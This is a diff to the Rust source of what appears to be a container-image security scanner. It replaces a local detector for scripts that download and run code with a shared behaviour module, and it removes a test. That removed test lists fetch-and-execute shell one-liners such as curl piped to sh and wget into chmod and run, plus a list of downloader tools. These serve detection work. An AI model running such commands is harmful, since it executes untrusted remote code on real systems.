@@ -25,6 +25,7 @@
 //! facts record how many files were dropped and the scan says it is incomplete).
 
 use super::{Analyzer, FileCtx, LayerFacts, Signal, SignalKind, Subject};
+use crate::behaviour::BehaviourKind;
 use crate::image::EntryKind;
 use crate::shell::{self, Sep, ShellCommand};
 use crate::signatures::Signatures;
@@ -334,80 +335,6 @@ pub fn commands_of(kind: ScriptKind, path: &str, text: &str) -> Vec<ShellCommand
     c
 }
 
-/// Programs that fetch from the network.
-const DOWNLOADERS: &[&str] = &[
-    "curl",
-    "wget",
-    "fetch",
-    "tftp",
-    "lwp-download",
-    "lwp-request",
-    "aria2c",
-    "axel",
-];
-/// Programs that run the text they are given (piped in, or as `-c`).
-const INTERPRETERS: &[&str] = &[
-    "sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "python", "python2", "python3", "perl",
-    "php", "ruby", "node",
-];
-
-fn base_of(prog: &str) -> &str {
-    prog.rsplit('/').next().unwrap_or(prog)
-}
-
-/// The first command of `cmds` that downloads, together with the command that runs what it
-/// fetched: piped into an interpreter, or its output file run later in the sequence.
-/// Each sequence passed here is what runs together (one cron entry, one unit line, one
-/// script).
-pub fn downloads_and_runs(cmds: &[ShellCommand]) -> Option<(&ShellCommand, &ShellCommand)> {
-    for (i, c) in cmds.iter().enumerate() {
-        let prog = super::config::program(&c.words).map(base_of).unwrap_or("");
-        let downloads = DOWNLOADERS.contains(&prog) || c.text.contains("/dev/tcp/");
-        if !downloads {
-            continue;
-        }
-        let output = output_file(&c.words);
-        for next in &cmds[i + 1..] {
-            let np = super::config::program(&next.words).unwrap_or("");
-            let piped = next.after == Sep::Pipe && INTERPRETERS.contains(&base_of(np));
-            let runs_output = output.as_deref().is_some_and(|o| {
-                np == o
-                    || base_of(np) == base_of(o) && np.starts_with("./")
-                    || INTERPRETERS.contains(&base_of(np))
-                        && next.words.iter().skip(1).any(|w| w == o)
-            });
-            if piped || runs_output {
-                return Some((c, next));
-            }
-            if next.after != Sep::Pipe && output.is_none() {
-                break;
-            }
-        }
-    }
-    None
-}
-
-/// Where a download command writes its file (`-o F`, `-O F`, `--output F`,
-/// `--output-document=F`), when it names one other than stdout.
-fn output_file(words: &[String]) -> Option<String> {
-    let mut it = words.iter();
-    while let Some(w) = it.next() {
-        let v = match w.as_str() {
-            "-o" | "-O" | "--output" | "--output-document" => it.next().cloned(),
-            _ => w
-                .strip_prefix("--output=")
-                .or_else(|| w.strip_prefix("--output-document="))
-                .or_else(|| w.strip_prefix("-O").filter(|v| !v.is_empty()))
-                .or_else(|| w.strip_prefix("-o").filter(|v| !v.is_empty()))
-                .map(str::to_string),
-        };
-        if let Some(v) = v {
-            return (v != "-" && v != "/dev/null").then_some(v);
-        }
-    }
-    None
-}
-
 /// The script analyzer (see the module doc).
 pub struct ScriptAnalyzer {
     sigs: Arc<Signatures>,
@@ -433,29 +360,27 @@ impl ScriptAnalyzer {
     }
 
     /// Signals about one file's commands (`run`: the system runs the file by itself).
+    /// Signals about one file's commands: what they do (`crate::behaviour`, judged once per
+    /// sequence that runs together: one cron entry, or the whole script or unit), and
+    /// persistence when a file the system runs by itself fetches code and runs it.
     fn judge(&self, kind: ScriptKind, cmds: &[ShellCommand], subject: &Subject) -> Vec<Signal> {
-        let mut out = crate::analyzers::behaviour_signals(&self.sigs, cmds, subject, false);
-        if kind.is_persistence() {
-            // One cron entry or unit line is one sequence; a script is one sequence.
-            let per_line = matches!(
-                kind,
-                ScriptKind::Crontab | ScriptKind::SystemdUnit | ScriptKind::Supervisor
-            );
-            let groups: Vec<&[ShellCommand]> = if per_line {
-                cmds.chunk_by(|a, b| a.line == b.line).collect()
-            } else {
-                vec![cmds]
-            };
-            for g in groups {
-                if let Some((fetch, run)) = downloads_and_runs(g) {
-                    let excerpt = if fetch.line == run.line {
-                        format!("line {}: {} ... {}", fetch.line, fetch.text, run.text)
-                    } else {
-                        format!(
-                            "line {}: {}; line {}: {}",
-                            fetch.line, fetch.text, run.line, run.text
-                        )
-                    };
+        // Each cron entry runs on its own; a unit's Exec lines run in turn, like a script.
+        let per_line = kind == ScriptKind::Crontab;
+        let groups: Vec<&[ShellCommand]> = if per_line {
+            cmds.chunk_by(|a, b| a.line == b.line).collect()
+        } else {
+            vec![cmds]
+        };
+        let mut out = Vec::new();
+        for g in groups {
+            let found = crate::behaviour::judge(&self.sigs.behaviour, g);
+            if kind.is_persistence() {
+                if let Some(b) = found.iter().find(|b| {
+                    matches!(
+                        b.kind,
+                        BehaviourKind::FetchExec | BehaviourKind::MinerDownload
+                    )
+                }) {
                     out.push(Signal {
                         subject: subject.clone(),
                         kind: SignalKind::Persistence(kind),
@@ -464,11 +389,12 @@ impl ScriptAnalyzer {
                             kind.event_type().trim_start_matches("image.")
                         ),
                         offset: None,
-                        line: Some(fetch.line),
-                        excerpt: crate::findings::excerpt(excerpt.as_bytes(), 240),
+                        line: b.line,
+                        excerpt: b.excerpt.clone(),
                     });
                 }
             }
+            out.extend(crate::behaviour::signals(found, subject, false));
         }
         out
     }
@@ -629,37 +555,6 @@ mod tests {
             )),
             [(2, "/usr/local/bin/app --threads 4 -o pool:3333".into())]
         );
-    }
-
-    #[test]
-    fn download_and_run_needs_both() {
-        let yes = [
-            "curl -fsSL http://h/x | sh",
-            "wget -q -O- http://h/x | bash -s",
-            "wget -q -O /tmp/k http://h/k; chmod +x /tmp/k; /tmp/k",
-            "curl -o k http://h/k && chmod 755 k && ./k",
-            "curl -s http://h/x -o /tmp/a.sh; sh /tmp/a.sh",
-        ];
-        for t in yes {
-            assert!(
-                downloads_and_runs(&shell::script_commands(t)).is_some(),
-                "{t}"
-            );
-        }
-        let no = [
-            "curl -fsSL https://x/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg",
-            "curl -o /tmp/x.tgz http://h/x.tgz && tar xzf /tmp/x.tgz -C /opt && rm /tmp/x.tgz",
-            "wget -q http://h/list -O /etc/apt/sources.list.d/x.list",
-            "curl -fsS http://localhost/health || exit 1",
-            "sh -c 'echo hi' | curl -d @- http://h/",
-            "curl -s http://h/x | sha256sum -c sums",
-        ];
-        for t in no {
-            assert!(
-                downloads_and_runs(&shell::script_commands(t)).is_none(),
-                "{t}"
-            );
-        }
     }
 
     fn run_file(path: &str, text: &str) -> (Vec<Signal>, LayerFacts) {
